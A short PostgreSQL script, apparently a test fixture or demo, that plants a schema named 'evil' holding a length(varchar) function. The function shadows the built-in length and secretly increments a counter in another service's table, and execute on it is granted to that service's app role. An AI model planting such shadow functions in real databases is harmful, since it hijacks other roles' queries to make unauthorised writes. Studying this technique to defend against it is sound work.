\connect shop
CREATE SCHEMA evil AUTHORIZATION svc_b_ddl;
GRANT USAGE ON SCHEMA evil TO svc_a_app;
\connect shop svc_b_migrate
CREATE FUNCTION evil.length(varchar) RETURNS int LANGUAGE plpgsql
AS $$ BEGIN UPDATE svc_a.t SET n = n + 1; RETURN 1; END $$;
GRANT EXECUTE ON FUNCTION evil.length(varchar) TO svc_a_app;
